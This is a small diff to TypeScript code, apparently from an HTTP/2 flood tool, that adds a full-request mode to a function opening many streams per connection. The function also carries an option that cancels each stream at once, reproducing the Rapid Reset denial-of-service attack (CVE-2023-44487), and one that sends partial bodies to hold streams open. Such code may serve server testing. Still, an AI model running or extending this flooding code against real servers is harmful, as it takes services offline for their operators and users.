@@ -80,7 +80,7 @@ export interface Http2Flood {
 }
 
 /**
- * Opens HTTP/2 connections with many streams each, which send these bytes of a body and no more.
+ * Opens HTTP/2 connections with many streams each, which send these bytes of a body and no more, or a whole request without a body.
  * @param open makes a connection
  * @param options resets: each stream is cancelled at once, and the next one opened (CVE-2023-44487)
  */
@@ -105,6 +105,7 @@ export async function floodHttp2(
       stream.on('error', () => undefined);
       stream.resume();
       if (resets) stream.close(constants.NGHTTP2_CANCEL);
+      else if (body === '') stream.end();
       else stream.write(body);
       if (m % 50 === 49) await wait(1); // lets the frames go
     }
